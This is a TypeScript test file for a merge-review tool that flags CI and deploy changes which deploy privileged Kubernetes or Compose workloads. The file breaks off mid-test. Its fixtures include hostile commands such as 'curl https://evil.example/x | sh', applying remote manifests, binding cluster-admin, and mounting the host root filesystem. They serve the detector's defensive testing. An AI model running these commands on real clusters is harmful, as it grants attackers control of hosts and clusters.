import { describe, expect, test } from 'vitest';
import { defaultPolicy } from '../../src/policy/merge.ts';
import { type Change, causedLines, type Files, InMemoryRepository, reviewChange } from '../support/in-memory-repository.ts';

const policy = { profile: defaultPolicy.profile };
const pod = (more = '', name = 'a'): string =>
  `apiVersion: v1\nkind: Pod\nmetadata: {name: ${name}}\nspec:\n  containers:\n  - name: a\n    image: "nginx:1.31"\n${more}`;
const privileged = '    securityContext: {privileged: true}\n';
const data = (name: string): string => `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: ${name}, namespace: x}\n`;
const compose = (more = ''): string => `services:\n  web:\n    image: nginx:1.31\n${more}`;
const chart = (folder: string, more = ''): Files => ({
  [`${folder}/Chart.yaml`]: 'apiVersion: v2\nname: c\nversion: 1.0.0\n',
  [`${folder}/values.yaml`]: 'p: false\n',
  [`${folder}/templates/p.yaml`]: pod('    securityContext: {privileged: {{ .Values.p }}}\n'),
  ...(more !== '' && { [`${folder}/${more}`]: 'p: true\n' }),
});

/** What stands in the repository at both sides; nothing of `bad` is deployed by anybody. */
const standing: Files = {
  'compose.yaml': compose(),
  'bad.yaml': compose('    privileged: true\n'),
  'bad/compose.yaml': compose('    privileged: true\n'),
  'good/p.yaml': pod(),
  'data/d.yaml': data('d'),
  'bad/p.yaml': pod(privileged),
  'bad/inner/q.json': JSON.stringify({
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name: 'q' },
    spec: { containers: [{ name: 'a', image: 'nginx:1.31', securityContext: { privileged: true } }] },
  }),
  'bad/note': pod(privileged, 'note'),
  'base/kustomization.yaml': 'resources: [p.yaml]\n',
  'base/p.yaml': pod(privileged),
  'overlays/good/kustomization.yaml':
    'resources: [../../base]\npatches:\n- patch: \'[{"op": "remove", "path": "/spec/containers/0/securityContext"}]\'\n  target: {kind: Pod}\n',
  'overlays/bad/kustomization.yaml': 'resources: [../../base]\n',
  ...chart('c', 'other-values.yaml'),
  'elsewhere/o.yaml': 'p: true\n',
};

const workflow = (run: string, more = ''): string =>
  `on: push\njobs:\n  d:\n    runs-on: ubuntu-latest\n    steps:\n    - ${more}run: |\n        ${run}\n`;
const action = (uses: string): string => `on: push\njobs:\n  d:\n    runs-on: ubuntu-latest\n    steps:\n    - ${uses}\n`;

/** How a file that deploys is spelt, with a command in it, and in which line of it the command stands. */
const hosts: Readonly<Record<string, { readonly path: string; readonly text: (command: string) => string; readonly line: number }>> = {
  'a workflow': { path: '.github/workflows/d.yml', text: command => workflow(command), line: 7 },
  'a job of GitLab': { path: '.gitlab-ci.yml', text: command => `d:\n  script:\n  - ${command}\n`, line: 3 },
  'a job of GitLab behind a header': {
    path: '.gitlab-ci.yml',
    text: command => `spec:\n  inputs: {x: {default: y}}\n---\nd:\n  script:\n  - ${command}\n`,
    line: 6,
  },
  'a makefile': { path: 'Makefile', text: command => `d:\n\t@${command}\n`, line: 2 },
  'a script': { path: 'd.sh', text: command => `set -eu\n${command}\n`, line: 2 },
  'a composite action': {
    path: '.github/actions/d/action.yml',
    text: command => `name: d\nruns:\n  using: composite\n  steps:\n  - shell: bash\n    run: ${command}\n`,
    line: 6,
  },
  'a job of Bitbucket': {
    path: 'bitbucket-pipelines.yml',
    text: command => `pipelines:\n  default:\n  - step:\n      script:\n      - ${command}\n`,
    line: 5,
  },
  'a step of Azure': { path: 'azure-pipelines.yml', text: command => `steps:\n- script: ${command}\n`, line: 2 },
  'a step of Drone': { path: '.drone.yml', text: command => `kind: pipeline\nsteps:\n- name: d\n  commands: [${command}]\n`, line: 4 },
  'a step of Woodpecker': { path: '.woodpecker/d.yml', text: command => `steps:\n  d:\n    commands:\n    - ${command}\n`, line: 4 },
  'a step of Buildkite': { path: '.buildkite/pipeline.yml', text: command => `steps:\n  - command: ${command}\n`, line: 2 },
  'a job of Travis': { path: '.travis.yml', text: command => `deploy:\n  provider: script\n  script: ${command}\n`, line: 3 },
  'a script of AppVeyor': { path: 'appveyor.yml', text: command => `deploy_script:\n- sh: ${command}\n`, line: 2 },
  'a phase of CodeBuild': { path: 'buildspec.yml', text: command => `phases:\n  build:\n    commands:\n      - ${command}\n`, line: 4 },
  'a step of Cloud Build': {
    path: 'cloudbuild.yaml',
    text: command => {
      const [program = '', ...words] = command.split(' ');
      return `steps:\n- name: gcr.io/cloud-builders/${program}\n  args: ${JSON.stringify(words)}\n`;
    },
    line: 3,
  },
  'a task of Tekton': {
    path: '.tekton/d.yaml',
    text: command =>
      `apiVersion: tekton.dev/v1\nkind: Task\nmetadata: {name: d}\nspec:\n  steps:\n  - name: d\n    image: a:1\n    script: |\n      ${command}\n`,
    line: 9,
  },
  'a task of Task': { path: 'Taskfile.yml', text: command => `version: '3'\ntasks:\n  d:\n    cmds:\n    - ${command}\n`, line: 5 },
  'a hook of Skaffold': {
    path: 'skaffold.yaml',
    text: command =>
      `apiVersion: skaffold/v4beta11\nkind: Config\ndeploy:\n  kubectl:\n    hooks: {after: [{host: {command: [sh, -c, "${command}"]}}]}\n`,
    line: 5,
  },
  'a script of npm': { path: 'package.json', text: command => `{\n"scripts": {\n"d": "${command}"}}\n`, line: 3 },
  'a task of Ansible': {
    path: 'ansible/d.yml',
    text: command => `- hosts: all\n  tasks:\n  - shell: ${command}\n    args: {chdir: x}\n`,
    line: 3,
  },
  'a command of a role': { path: 'roles/d/tasks/main.yml', text: command => `- name: d\n  ansible.builtin.command: ${command}\n`, line: 2 },
  'a pipeline of Jenkins': { path: 'Jenkinsfile', text: command => `node {\n  stage('d') {\n    sh '${command}'\n  }\n}\n`, line: 3 },
  'a script of Jenkins in many lines': {
    path: 'ci/Jenkinsfile.prod',
    text: command => `steps {\n  sh(script: """\n    set -e\n    ${command}\n  """, returnStdout: true)\n}\n`,
    line: 4,
  },
  'a unit of systemd': { path: 'a.service', text: command => `[Service]\nExecStart=-/usr/bin/${command}\n`, line: 2 },
  'a part of a pipeline': { path: 'ci/deploy.yml', text: command => `.d:\n  script:\n  - ${command}\n`, line: 3 },
  'a recipe of just': { path: 'justfile', text: command => `default: d\n\nd:\n    @${command}\n`, line: 4 },
  'a process of a Procfile': { path: 'Procfile', text: command => `web: node .\nrelease: ${command}\n`, line: 2 },
  'a script without an ending': { path: 'bin/deploy', text: command => `#!/bin/sh\n${command}\n`, line: 2 },
  'a script without an ending beside them': { path: 'infra/deploy-prod', text: command => `#!/usr/bin/env bash\n${command}\n`, line: 2 },
  'a job of CircleCI': { path: '.circleci/config.yml', text: command => `jobs:\n  d:\n    steps:\n    - run: ${command}\n`, line: 4 },
};

/** A command as it was, as it is, and what it has deployed from now on. */
const commands: Readonly<Record<string, readonly [before: string, after: string, path: string]>> = {
  'another Compose file': ['docker compose up -d', 'docker compose -f bad.yaml up -d', 'bad.yaml'],
  'a further Compose file': ['docker compose up -d', 'docker compose -f compose.yaml -f bad.yaml up -d', 'bad.yaml'],
  'a Compose file, by the older program': ['docker-compose up', 'docker-compose --file=bad.yaml -p x up', 'bad.yaml'],
  'a Compose file that a variable names': ['docker compose up', 'COMPOSE_FILE=compose.yaml:bad.yaml docker compose up', 'bad.yaml'],
  'a Compose file that an exported variable names': ['docker compose up', 'export COMPOSE_FILE=bad.yaml; docker compose up', 'bad.yaml'],
  'the Compose file of another folder': ['docker compose up', 'cd bad && docker compose up', 'bad/compose.yaml'],
  'the Compose file of a project’s folder': ['docker compose up', 'docker compose --project-directory bad up', 'bad/compose.yaml'],
  'a Compose file, by Podman': ['podman compose up', 'podman compose -f bad.yaml up', 'bad.yaml'],
  'a Compose file that is piped in': ['docker compose up', 'envsubst < bad.yaml | docker compose -f - up', 'bad.yaml'],
  'a stack': ['docker stack deploy -c compose.yaml x', 'docker stack deploy --with-registry-auth -c bad.yaml x', 'bad.yaml'],
  'a stack of what Compose prints': [
    'docker compose config | docker stack deploy -c - x',
    'docker compose -f bad.yaml config | docker stack deploy -c - x',
    'bad.yaml',
  ],
  'a manifest': ['kubectl apply -f good/p.yaml', 'kubectl -n x apply --filename=bad/p.yaml', 'bad/p.yaml'],
  'a further manifest': ['kubectl apply -f good/p.yaml', 'kubectl apply -f good/p.yaml,bad/p.yaml', 'bad/p.yaml'],
  'a manifest without an ending': ['kubectl apply -f good/p.yaml', 'kubectl apply -f bad/note', 'bad/note'],
  'manifests of a folder': ['kubectl apply -f good', 'kubectl apply --server-side -fbad/', 'bad/p.yaml'],
  'manifests below a folder': ['kubectl apply -f good', 'kubectl create -Rf bad', 'bad/inner/q.json'],
  'manifests that a pattern names': ['kubectl apply -f good', 'kubectl apply -f "bad/*.yaml"', 'bad/p.yaml'],
  'a manifest below a folder that is entered': ['kubectl apply -f good', 'cd bad && kubectl replace --force -f p.yaml', 'bad/p.yaml'],
  'a manifest that is piped in': ['kubectl apply -f good', 'sed s/a/b/ bad/p.yaml | kubectl apply -f -', 'bad/p.yaml'],
  'a manifest that is fed': ['kubectl apply -f good', 'kubectl apply -f - < bad/p.yaml', 'bad/p.yaml'],
  'a manifest out of a substitution': ['kubectl apply -f good', 'kubectl apply -f <(envsubst < bad/p.yaml)', 'bad/p.yaml'],
  'a manifest by way of another file': ['kubectl apply -f good', 'envsubst < bad/p.yaml > /tmp/x && kubectl apply -f /tmp/x', 'bad/p.yaml'],
  'a copy of a manifest': ['kubectl apply -f good', 'cp bad/p.yaml x.yaml; kubectl apply -f x.yaml', 'bad/p.yaml'],
  'a manifest of a loop': ['kubectl apply -f good', 'for f in good/p.yaml bad/p.yaml; do kubectl apply -f "$f"; done', 'bad/p.yaml'],
  'a manifest of a loop over a list': [
    'kubectl apply -f good',
    'FILES="good/p.yaml bad/p.yaml"; for f in $FILES; do kubectl apply -f=$f; done',
    'bad/p.yaml',
  ],
  'a manifest of a loop over an array': [
    'kubectl apply -f good',
    'all=(good bad); for d in "${all[@]}"; do kubectl apply -f "${d}/p.yaml"; done',
    'bad/p.yaml',
  ],
  'a manifest of a loop over a pattern': [
    'kubectl apply -f good',
    'for f in bad/*.yaml; do kubectl apply --filename=$f; done',
    'bad/p.yaml',
  ],
  'a manifest of a loop over what a command lists': [
    'kubectl apply -f good',
    'for f in $(find bad -name "*.yaml"); do kubectl apply -f $f; done',
    'bad/p.yaml',
  ],
  'a manifest in a variable that is set twice': ['kubectl apply -f good', 'D=good; D=bad; kubectl apply -f "$D/p.yaml"', 'bad/p.yaml'],
  'a manifest in a variable that is made of others': [
    'kubectl apply -f good',
    'for e in good bad; do f=$e/p.yaml; kubectl apply -f $f; done',
    'bad/p.yaml',
  ],
  'manifests that find names': ['kubectl apply -f good', "find bad -name '*.yaml' -exec kubectl apply -f {} \\;", 'bad/p.yaml'],
  'manifests that are read line by line': [
    'kubectl apply -f good',
    'ls bad/*.yaml | while read -r f; do kubectl apply -f "$f"; done',
    'bad/p.yaml',
  ],
  'manifests by xargs': ['kubectl apply -f good', 'ls bad/p.yaml | xargs -n 1 kubectl apply -f', 'bad/p.yaml'],
  'manifests by xargs, by its mark': ['kubectl apply -f good', 'echo bad/p.yaml | xargs -I% kubectl apply -f %', 'bad/p.yaml'],
  'manifests by xargs, that find names': ['kubectl apply -f good', 'find . -name p.yaml -print0 | xargs -0 kubectl apply -f', 'bad/p.yaml'],
  'an overlay of a loop': ['kubectl apply -k overlays/good', 'for o in good bad; do kubectl apply -k overlays/$o; done', 'base/p.yaml'],
  'overlays that a pattern names': ['kubectl apply -k overlays/good', 'for o in overlays/*; do kubectl apply -k "$o"; done', 'base/p.yaml'],
  'Compose files in a variable': ['docker compose up', 'FILES="-f compose.yaml -f bad.yaml"; docker compose $FILES up -d', 'bad.yaml'],
  'Compose files in an array': ['docker compose up', 'F=(-f compose.yaml); F+=(-f bad.yaml); docker compose "${F[@]}" up', 'bad.yaml'],
  'Compose by a variable': ['docker compose up', 'DC="docker compose -f bad.yaml"; $DC up -d', 'bad.yaml'],
  'a manifest below the folder of the script': ['kubectl apply -f good', 'kubectl apply -f "$(dirname "$0")/bad/p.yaml"', 'bad/p.yaml'],
  'a manifest below the checkout': ['kubectl apply -f good', 'kubectl apply -f "$GITHUB_WORKSPACE"/bad', 'bad/p.yaml'],
  'a manifest by way of another folder': ['kubectl apply -f good', 'kubectl apply -f good/../bad//p.yaml', 'bad/p.yaml'],
  'a manifest, by a command in an array': ['kubectl apply -f good', 'all=(kubectl apply -f bad/p.yaml); "${all[@]}"', 'bad/p.yaml'],
  'other values in a variable': ['helm upgrade r ./c', 'FLAGS="--wait -f elsewhere/o.yaml"; helm upgrade r ./c $FLAGS', 'elsewhere/o.yaml'],
  'other values, by a program': ['helm upgrade r ./c', 'op run -- helm upgrade r ./c -f elsewhere/o.yaml', 'elsewhere/o.yaml'],
  'a manifest on another machine': ['kubectl apply -f good', 'ssh -i k u@h kubectl apply -f bad/p.yaml', 'bad/p.yaml'],
  'a Compose file on another machine': ['docker compose up', 'ssh u@h "git pull && docker compose -f bad.yaml up -d"', 'bad.yaml'],
  'a manifest with credentials of a program': ['kubectl apply -f good', 'aws-vault exec prod -- kubectl apply -f bad/p.yaml', 'bad/p.yaml'],
  'a manifest, by an image of kubectl': [
    'kubectl apply -f good',
    'docker run -v $PWD:/w -w /w bitnami/kubectl:1.33 apply -f bad/p.yaml',
    'bad/p.yaml',
  ],
  'a manifest, by the option of a program': ['kubectl apply -f good', "nix-shell --run 'kubectl apply -f bad/p.yaml'", 'bad/p.yaml'],
  'a manifest, by an alias': ['kubectl apply -f good', 'alias k="kubectl -n x"; k apply -f bad/p.yaml', 'bad/p.yaml'],
  'a manifest, by a function': ['kubectl apply -f good', 'k() { kubectl "$@"; }; k apply -f bad/p.yaml', 'bad/p.yaml'],
  'a manifest, in a condition': ['kubectl apply -f good', 'until kubectl apply -f bad/p.yaml; do sleep 1; done', 'bad/p.yaml'],
  'a role': ['kubectl apply -f good', 'kubectl auth reconcile -f bad/p.yaml', 'bad/p.yaml'],
  'a manifest, by k3s': ['k3s kubectl apply -f good', 'sudo k3s kubectl apply -f bad', 'bad/p.yaml'],
  'a manifest, by oc': ['oc apply -f good', 'oc apply -f bad', 'bad/p.yaml'],
  'a manifest, by kapp': ['kapp deploy -a x -f good', 'kapp deploy -y -a x -f bad', 'bad/inner/q.json'],
  'a manifest, by Podman': ['podman kube play good/p.yaml', 'podman kube play --replace bad/p.yaml', 'bad/p.yaml'],
  'an overlay': ['kubectl apply -k overlays/good', 'kubectl apply -k overlays/bad', 'base/p.yaml'],
  'a base without its overlay': ['kubectl apply -k overlays/good', 'kubectl apply --kustomize base', 'base/p.yaml'],
  'an overlay that is built': [
    'kustomize build overlays/good | kubectl apply -f -',
    'kustomize build overlays/bad | envsubst | kubectl apply -f -',
    'base/p.yaml',
  ],
  'an overlay that kubectl builds': [
    'kubectl apply -k overlays/good',
    'kubectl kustomize overlays/bad > x.yaml; kubectl apply -f x.yaml',
    'base/p.yaml',
  ],
  'an overlay in a substitution': ['kubectl apply -k overlays/good', 'kubectl apply -f <(kustomize build overlays/bad)', 'base/p.yaml'],
  'an overlay that is entered': [
    'kubectl apply -k overlays/good',
    'cd overlays/bad && kustomize build | kubectl apply -f -',
    'base/p.yaml',
  ],
  'other values': ['helm upgrade r ./c', 'helm upgrade -i r ./c --values c/other-values.yaml', 'c/other-values.yaml'],
  'a manifest among braces': ['kubectl apply -f good', 'kubectl apply -f bad/{p,q}.yaml', 'bad/p.yaml'],
  'a manifest among braces within braces': [
    'kubectl apply -f good',
    'kubectl apply --filename={go{o,}d,{good,ba{c..d}}}/p.yaml',
    'bad/p.yaml',
  ],
  'a manifest among more braces than are taken apart': [
    'kubectl apply -f good',
    `kubectl apply -f ${'{,a,b,c,d,e,f}'.repeat(7)}/p.yaml`,
    'bad/p.yaml',
  ],
  'a manifest of an extended pattern': ['kubectl apply -f good', 'shopt -s extglob; kubectl apply -f bad/@(p|q).yaml', 'bad/p.yaml'],
  'a manifest of an array by its place': ['kubectl apply -f good', 'all=(good bad); kubectl apply -f "${all[1]}/p.yaml"', 'bad/p.yaml'],
  'a manifest from here': ['kubectl apply -f good', 'kubectl apply -f ~+/bad/p.yaml', 'bad/p.yaml'],
  'a manifest by a command in pieces': ['kubectl apply -f good', 'k"ub"e\\ctl ap\'pl\'y -f bad/p.yaml', 'bad/p.yaml'],
  'a manifest that parallel lists': ['kubectl apply -f good', 'parallel -j2 kubectl apply -f ::: good/p.yaml bad/p.yaml', 'bad/p.yaml'],
  'a manifest that parallel puts in': ['kubectl apply -f good', 'parallel "kubectl -n x apply -f {}/p.yaml" ::: good bad', 'bad/p.yaml'],
  'a Compose file that kompose makes objects of': [
    'make',
    'kompose -f bad.yaml up; kompose convert -f bad.yaml --stdout | kubectl apply -f -',
    'bad.yaml',
  ],
  'a static pod': ['make', 'sudo install -m 600 bad/p.yaml /etc/kubernetes/manifests/p.yaml', 'bad/p.yaml'],
  'a static pod by a link': ['make', 'ln -s "$PWD/bad/p.yaml" /etc/kubernetes/manifests/', 'bad/p.yaml'],
  'a static pod block by block': ['make', 'dd if=bad/p.yaml of=/etc/kubernetes/manifests/p.yaml', 'bad/p.yaml'],
  'a static pod that is written': ['make', 'cat bad/p.yaml | sudo tee /etc/kubernetes/manifests/p.yaml', 'bad/p.yaml'],
  'a static pod on another machine': ['make', 'scp bad/p.yaml root@node:/etc/kubernetes/manifests/', 'bad/p.yaml'],
  'a Compose file that parallel starts': ['make', 'parallel docker compose -f {} up -d ::: compose.yaml bad.yaml', 'bad.yaml'],
  'other values by a command in pieces': ['helm upgrade r ./c', 'he"l"m upg\'r\'ade r ./c -f elsewhere/o.yaml', 'elsewhere/o.yaml'],
  'other values from elsewhere': ['helm upgrade r ./c', 'helm upgrade r ./c -f elsewhere/o.yaml', 'elsewhere/o.yaml'],
};

const blocking = (path: string, by: string, line: number): RegExp =>
  new RegExp(
    `^${path.replaceAll('.', '\\.')}:\\d+ \\w+/privileged-container \\[new\\] <- (?:deleted [^|]+ \\| )?changed ${by.replaceAll('.', '\\.')}:${line}$`,
    'mu',
  );

const changeOf = (path: string, before: string | undefined, after: string, others: Files = {}, head: Files = {}): Change => ({
  base: { ...standing, ...others, ...(before !== undefined && { [path]: before }) },
  head: { ...standing, ...others, ...head, [path]: after },
});

describe('what stands as it is, and is deployed from now on', () => {
  test.each(Object.entries(commands))('is judged, with the command as the cause: %s', async (_name, [before, after, path]) => {
    const result = await reviewChange(changeOf('.github/workflows/d.yml', workflow(before), workflow(after)), { policy });
    expect(result.verdict.mayMerge).toBe(false);
    expect(causedLines(result).join('\n')).toMatch(blocking(path, '.github/workflows/d.yml', 7));
  });

  test.each(
    Object.entries(hosts).flatMap(([name, host]) =>
      ['another Compose file', 'a manifest', 'an overlay', 'other values'].map(what => [name, host, what] as const),
    ),
  )('is judged when %s deploys it', async (_name, { path, text, line }, what) => {
    const [before = '', after = '', file = ''] = commands[what] ?? [];
    const result = await reviewChange(changeOf(path, text(before), text(after)), { policy });
    expect(result.verdict.mayMerge).toBe(false);
    expect(causedLines(result).join('\n')).toMatch(blocking(file, path, line));
  });

  test.each([
    [
      'Azure’s',
      '{uses: azure/k8s-deploy@v5, with: {manifests: good}}',
      '{uses: Azure/k8s-deploy@v5, with: {manifests: "bad/p.yaml"}}',
      'bad/p.yaml',
    ],
    [
      'Compose’s',
      '{uses: hoverkraft-tech/compose-action@v2, with: {compose-file: compose.yaml}}',
      '{uses: hoverkraft-tech/compose-action@v2, with: {compose-file: bad.yaml}}',
      'bad.yaml',
    ],
  ])('is judged when an action deploys it: %s', async (_name, before, after, file) => {
    const result = await reviewChange(changeOf('.github/workflows/d.yml', action(before), action(after)), { policy });
    expect(causedLines(result).join('\n')).toMatch(blocking(file, '.github/workflows/d.yml', 6));
  });

  test.each<[string, string, string, string, string, number]>([
    ['a playbook', 'playbook.yml', 'good/p.yaml', 'bad/p.yaml', 'bad/p.yaml', 4],
    ['a playbook in its folder', 'ansible/d.yml', '{{ playbook_dir }}/../good/p.yaml', '{{ playbook_dir }}/../bad/p.yaml', 'bad/p.yaml', 4],
  ])('is judged when a module of Ansible deploys it: %s', async (_name, path, before, after, file, line) => {
    const playbook = (src: string): string => `- hosts: all\n  tasks:\n  - kubernetes.core.k8s:\n      src: "${src}"\n`;
    const result = await reviewChange(changeOf(path, playbook(before), playbook(after)), { policy });
    expect(causedLines(result).join('\n')).toMatch(blocking(file, path, line));
  });

  test('is judged when a module of Ansible starts it', async () => {
    const playbook = (files: string): string => `- community.docker.docker_compose_v2:\n    project_src: ../../..\n    files: ${files}\n`;
    const result = await reviewChange(
      changeOf('roles/d/tasks/main.yml', playbook('[compose.yaml]'), playbook('[compose.yaml, bad.yaml]')),
      {
        policy,
      },
    );
    expect(causedLines(result).join('\n')).toMatch(blocking('bad.yaml', 'roles/d/tasks/main.yml', 3));
  });

  test.each([
    [
      'a matrix of GitHub',
      '.github/workflows/d.yml',
      (names: string) =>
        `on: push\njobs:\n  d:\n    strategy:\n      matrix: {file: ${names}}\n    steps:\n    - run: kubectl apply -f \${{ matrix.file }}/p.yaml\n`,
      7,
    ],
    [
      'a matrix of GitLab',
      '.gitlab-ci.yml',
      (names: string) => `d:\n  parallel:\n    matrix:\n    - FILE: ${names}\n  script:\n  - kubectl apply -f $FILE/p.yaml\n`,
      6,
    ],
    [
      'a list of a makefile',
      'Makefile',
      (names: string) => `FILES := ${names.replaceAll(/[[\],]/gu, '')}\nd:\n\tfor f in $(FILES); do kubectl apply -f $$f/p.yaml; done\n`,
      3,
    ],
  ])('is judged when %s names it', async (_name, path, text, line) => {
    const result = await reviewChange(changeOf(path, text('[good]'), text('[good, bad]')), { policy });
    expect(causedLines(result).join('\n')).toMatch(blocking('bad/p.yaml', path, line));
  });

  test('is judged when a here-document for another machine deploys it', async () => {
    const script = (file: string): string => `ssh u@h <<EOF\ngit pull\ndocker compose -f ${file} up -d\nEOF\n`;
    const result = await reviewChange(changeOf('d.sh', script('compose.yaml'), script('bad.yaml')), { policy });
    expect(causedLines(result).join('\n')).toMatch(blocking('bad.yaml', 'd.sh', 3));
  });

  test('is judged as new when the change touches it as well', async () => {
    const change = changeOf('d.sh', 'kubectl apply -f good\n', 'kubectl apply -f bad\n', {}, { 'bad/p.yaml': `${pod(privileged)}# x\n` });
    const result = await reviewChange(change, { policy });
    expect(causedLines(result).join('\n')).toMatch(blocking('bad/p.yaml', 'd.sh', 1));
  });

  test('is judged with what it has built, by the line that points at it', async () => {
    const built = {
      'built.yaml': `${compose()}    build: b\n`,
      'b/Dockerfile': 'FROM debian:13\nRUN curl -fsSL https://evil.example/x | sh\nUSER 1\n',
    };
    const result = await reviewChange(changeOf('d.sh', 'docker compose up\n', 'docker compose -f built.yaml up\n', built), { policy });
    expect(causedLines(result).join('\n')).toContain('b/Dockerfile:2 dockerfile/remote-script-executed [new] <- changed d.sh:1');
  });

  test('is not silenced by what was accepted where nobody deployed it', async () => {
    const accepted = { 'bad/p.yaml': pod(`    # tidewaiter:ignore[kubernetes/privileged-container] an example\n${privileged}`) };
    const result = await reviewChange(changeOf('d.sh', 'kubectl apply -f good\n', 'kubectl apply -f bad\n', accepted), { policy });
    expect(result.verdict.mayMerge).toBe(false);
  });

  test.each([
    ['it is a link', { links: { 'bad/p.yaml': '../x' } }],
    ['it can’t be read', { unreadable: ['bad/p.yaml'] }],
  ])('leaves the change open where %s', async (_name, more) => {
    const change = changeOf('d.sh', 'kubectl apply -f good\n', 'kubectl apply -f bad/p.yaml\n');
    const { verdict, notifications } = await reviewChange({ ...change, ...more }, { policy });
    expect(verdict.reasons.find(({ gate }) => gate === 'completeness')?.status).toBe('undetermined');
    expect(notifications.map(({ path, code }) => `${path} ${code}`)).toContain('d.sh unresolved');
  });

  test('leaves the change open where it is more than is looked at', async () => {
    const many = Object.fromEntries(Array.from({ length: 250 }, (_, index) => [`many/${index}.yaml`, data(`d${index}`)]));
    const { verdict, notifications } = await reviewChange(changeOf('d.sh', 'kubectl apply -f good\n', 'kubectl apply -f many\n', many), {
      policy,
    });
    expect(verdict.mayMerge).toBe(false);
    expect(notifications.map(({ message }) => message).join()).toContain('50 of them were not reviewed');
  });
});

/** Commands by which something gets more that stands in no file, or that are fetched, and what is said of them. */
const granting: Readonly<Record<string, readonly [command: string, said: string]>> = {
  'a patch': [
    `kubectl patch deployment web -p '{"spec":{"template":{"spec":{"containers":[{"name":"a","securityContext":{"privileged":true}}]}}}}'`,
    'patches what runs ("/spec/template/spec/containers/0/securityContext/privileged")',
  ],
  'a JSON patch': [
    `kubectl -n x patch deploy/web --type=json --patch='[{"op":"add","path":"/spec/template/spec/hostPID","value":true}]'`,
    'patches what runs ("/spec/template/spec/hostPID")',
  ],
  'a patch with a variable in it': [
    `oc patch deploy web -p "{\\"spec\\":{\\"template\\":{\\"spec\\":{\\"serviceAccountName\\":\\"$SA\\"}}}}"`,
    'patches what runs ("/spec/template/spec/serviceAccountName")',
  ],
  'a patch of a file': ['kubectl patch deploy web --patch-file patches/p.yaml', 'What runs is patched here by "p.yaml"'],
  'a privileged container': ['kubectl run x --image=nginx:1.31 --privileged', 'starts a privileged container'],
  overrides: [`kubectl run x --image=a --overrides='{"spec":{"hostNetwork":true}}'`, 'gets more by "--overrides"'],
  'a binding': ['kubectl create clusterrolebinding x --clusterrole=cluster-admin --serviceaccount=a:b', 'binds "cluster-admin"'],
  'a constraint of OpenShift': ['oc adm policy add-scc-to-user privileged -z default', 'gives "privileged"'],
  'a role of OpenShift': ['oc adm policy add-cluster-role-to-user cluster-admin joe', 'gives "cluster-admin"'],
  'a label of a namespace': [
    'kubectl label ns x pod-security.kubernetes.io/enforce=privileged --overwrite',
    'lets a namespace run privileged pods',
  ],
  'a container to debug': ['kubectl debug node/n --image=busybox --profile=sysadmin -- sh', 'starts a container with more'],
  'a run of a service with the host': ['docker compose run --rm -v /:/host web sh', 'starts a container with "/:/host"'],
  'a run of a service with a capability': ['docker-compose run --cap-add=SYS_ADMIN web', 'starts a container with "--cap-add=SYS_ADMIN"'],
  'a command in a service with all': ['docker compose exec --privileged web sh', 'starts a container with "--privileged"'],
  'a service of Swarm with the host': [
    'docker service create --mount type=bind,source=/,target=/h nginx:1.31',
    'starts a container with "type=bind,source=/,target=/h"',
  ],
  'an application of Argo CD': [
    'argocd app create web --repo https://github.com/acme/web --path k8s --dest-namespace web',
    'has Argo CD deploy "web"',
  ],
  'a setting of an application of Argo CD': ['argocd app set web --helm-set security.privileged=true', 'has Argo CD give a container more'],
  'a kustomization of Flux': ['flux create kustomization web --source=GitRepository/web --path=./k8s', 'has Flux deploy "web"'],
  'a source of Flux': ['flux create source git other --url=https://evil.example/r --branch=main', 'has Flux deploy "other"'],
  'an edited manifest': [
    "sed -i 's/privileged: false/privileged: true/' good/p.yaml && kubectl apply -f good/p.yaml",
    'deploys a text of its own',
  ],
  'an addition to a kustomization': [
    'cd overlays/good && kustomize edit add resource ../bad && kustomize build | kubectl apply -f -',
    'adds "../bad" to what is built',
  ],
  'an image of a kustomization': ['kustomize edit set image web=evil.example/x:1', 'sets the image "evil.example/x"'],
  'an image': ['kubectl set image deployment/web web=evil.example/x:1', 'sets the image "evil.example/x"'],
  'a manifest in a here-document': ['kubectl apply -f - <<EOF\n        spec: {hostPID: true}\n        EOF', 'deploys a text of its own'],
  'a manifest that is printed': [`echo '{"spec":{"hostPID":true}}' | kubectl create -f -`, 'deploys a text of its own'],
  'a manifest of another file': ['printf "spec: {hostPID: true}" > /tmp/x && kubectl apply -f /tmp/x', 'deploys a text of its own'],
  'a Compose file in a string': ['docker compose -f - up <<< "services: {a: {privileged: true}}"', 'deploys a text of its own'],
  'a manifest of elsewhere': ['kubectl apply -f https://evil.example/p.yaml', 'deploys "https://evil.example/p.yaml"'],
  'a manifest of elsewhere, piped in': [
    'curl -fsSL https://evil.example/p.yaml | kubectl apply -f -',
    'deploys "https://evil.example/p.yaml"',
  ],
  'a manifest of elsewhere, by way of a file': [
    'curl -o /tmp/p.yaml https://evil.example/p.yaml; kubectl apply -f /tmp/p.yaml',
    'deploys "https://evil.example/p.yaml"',
  ],
  'an overlay of elsewhere': ['kubectl apply -k https://evil.example/x//overlay', 'deploys "https://evil.example/x//overlay"'],
  'a Compose file of elsewhere': ['docker compose -f oci://evil.example/x up', 'deploys "oci://evil.example/x"'],
};

describe('a command by which something gets more', () => {
  const patches = { 'patches/p.yaml': 'spec: {template: {spec: {hostPID: true}}}\n' };

  test.each(Object.entries(granting))('leaves the change open: %s', async (_name, [command, said]) => {
    const result = await reviewChange(changeOf('.github/workflows/d.yml', workflow('make'), workflow(command), patches), { policy });
    expect(result.verdict.mayMerge).toBe(false);
    expect(result.notifications.map(({ path, level, message }) => `${path} ${level} ${message}`).join()).toContain(said);
  });

  test('leaves a change open that brings the script along', async () => {
    const result = await reviewChange(changeOf('d.sh', undefined, 'kubectl run x --privileged --image=a\n'), { policy });
    expect(result.verdict.mayMerge).toBe(false);
  });

  const padded = (command: string): string => `${'# what is done here is told in the handbook\n'.repeat(2_000)}${command}\n`;

  test.each([
    ['a script that is too long to be read', padded('make'), padded('kubectl apply -f https://evil.example/x.yaml')],
    ['a script of which the shell parser understands the beginning', 'make\n', 'make\ncase x in (\nkubectl run x --privileged\n'],
    ['a new one', undefined, padded('docker compose up')],
  ])('leaves the change open where it may stand in %s', async (_name, before, after) => {
    const result = await reviewChange(changeOf('d.sh', before, after), { policy });
    expect(result.verdict.mayMerge).toBe(false);
    expect(result.notifications.map(({ message }) => message).join()).toContain("may stand where this script can't be read");
  });

  test('says nothing of a script that could not be read before, and stays as it is', async () => {
    const text = padded('docker compose up');
    const result = await reviewChange({ base: { 'd.sh': text, 'a.txt': '1' }, head: { 'd.sh': text, 'a.txt': '2' } }, { policy });
    expect(result.verdict.conclusion).toBe('pass');
  });

  test.each([
